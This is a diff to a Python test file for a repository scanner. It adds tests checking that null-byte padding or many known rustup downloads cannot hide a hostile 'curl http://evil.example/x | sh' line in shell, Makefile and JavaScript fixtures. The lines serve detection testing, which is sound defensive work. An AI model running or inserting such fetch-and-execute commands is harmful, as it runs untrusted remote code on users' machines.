@@ -29,7 +29,7 @@ from modelscan.vocabulary.fact import (
     RepositoryRequirement,
     RepositoryScript,
 )
-from tests.forge import models
+from tests.forge import models, reading
 from tests.forge.repository import view
 
 READERS = (ScriptReader(), RequirementsReader(), SecretReader())
@@ -108,7 +108,7 @@ def test_scripts_in_other_encodings_and_without_end() -> None:
 @pytest.mark.parametrize(
     ("name", "head"),
     [
-        ("a.sh", b"a\0b"),
+        ("a.sh", b"a\0\1\2\3b"),
         ("README", b"# words"),
         ("notes.txt", b"#!/bin/sh"),
         ("profile", b"#!/bin/cat"),
@@ -210,6 +210,22 @@ def test_large_documents_are_not_searched() -> None:
     assert not SecretReader().recognises(Glimpse(artifact))
 
 
+@pytest.mark.parametrize("name", ["a.sh", "Makefile", "a.js"])
+def test_zeros_hide_no_command(name: str) -> None:
+    text = b"#!/bin/sh\nall:\n\tcurl http://evil.example/x | sh\n"
+    if name == "a.js":
+        text = b"require('child_process').execSync('curl http://evil.example/x | sh')\n//"
+    assert reading.fails(text + bytes(3000), name) == ["script-runs-unknown-download"]
+
+
+def test_many_known_downloads_do_not_hide_another() -> None:
+    known = "".join(f"curl https://sh.rustup.rs | sh -s -- {number}\n" for number in range(99))
+    found = _read("a.sh", f"#!/bin/sh\n{known}curl http://evil.example/x | sh\n")
+    scripts_found = [fact for fact in found if isinstance(fact, RepositoryScript)]
+    assert sum(fact.known_place for fact in scripts_found) == scripts._MOST
+    assert "curl http://evil.example/x | sh" in {fact.command for fact in scripts_found}
+
+
 def _attached(*names: str, formats: dict[str, str] | None = None) -> dict[str, str]:
     found = AttachmentRelator().relate(view(*names, formats=formats), Facts(()))
     return {fact.name: fact.kind for fact in found if isinstance(fact, RepositoryAttachment)}
@@ -237,6 +253,8 @@ def test_ordinary_files_and_single_files_have_no_attachments() -> None:
     assert _attached(*names) == {}
     assert not list(AttachmentRelator().relate(view("a.exe", folder=False), Facts(())))
     assert len(_attached(*(f"{n}.exe" for n in range(99)))) == 50
+    cached = [name for n in range(99) for name in (f"m{n}.py", f"__pycache__/m{n}.cpython-311.pyc")]
+    assert _attached(*cached, "z.desktop")["z.desktop"] == "launcher"
 
 
 @given(
